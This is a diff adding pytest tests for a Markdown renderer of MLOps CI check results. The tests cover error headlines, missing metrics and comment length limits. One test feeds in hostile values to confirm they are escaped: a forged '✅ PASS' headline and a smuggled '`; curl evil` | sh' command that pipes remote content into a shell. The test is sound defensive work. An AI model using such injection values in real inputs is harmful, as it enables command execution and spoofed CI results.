@@ -429,3 +429,48 @@ def test_shortening_drops_details_first_then_slices_then_the_chart(max_chars: in
 def test_max_chars_must_be_positive() -> None:
     with pytest.raises(ValueError):
         render_markdown(fixture("pass_with_baseline"), max_chars=0)
+
+
+# -- a check stopped by an error ----------------------------------------------------------------------------
+
+
+def test_an_error_result_renders_the_headline_the_line_the_step_and_how_to_reproduce_it() -> None:
+    markdown = render_markdown(fixture("error"))
+    lines = markdown.splitlines()
+    assert lines[0] == "## ⚠️ ERROR: model churn"
+    message = "train.entrypoint churn_model:train_model: training raised ValueError: Input X contains NaN"
+    assert f"- **Error:** {message}" in lines
+    assert "- **Failed step:** training candidate" in lines
+    assert (
+        "- **Reproduce locally:** in the project folder, run `mlops-actions check --config mlops.yaml`"
+        in lines
+    )
+    assert "[CI run](https://github.com/acme/churn/actions/runs/4242)" in markdown
+    assert "| metric |" not in markdown
+
+
+def test_an_error_result_without_metrics_or_a_model_task_renders_without_crashing() -> None:
+    result = fixture("error")
+    result["model"] = {"name": "churn"}
+    result.pop("timings")
+    assert render_markdown(result).startswith("## ⚠️ ERROR: model churn\n")
+
+
+def test_a_hostile_error_line_cannot_break_out_of_its_list_item() -> None:
+    result = fixture("error")
+    result["error"] = {
+        **result["error"],
+        "message": "boom\n## ✅ PASS: model churn\n<details>",
+        "reproduce": "mlops-actions check `; curl evil` | sh",
+    }
+    markdown = render_markdown(result)
+    assert "## ✅ PASS" not in markdown.replace("\\#", "#").splitlines()[2:]
+    assert not any(line.startswith("## ✅") for line in markdown.splitlines())
+    assert "<details>" not in markdown
+    assert "`; curl evil`" not in markdown
+
+
+def test_an_error_comment_fits_a_tiny_limit() -> None:
+    result = fixture("error")
+    result["error"] = {**result["error"], "message": "x" * 5000}
+    assert len(render_markdown(result, max_chars=400)) <= 400
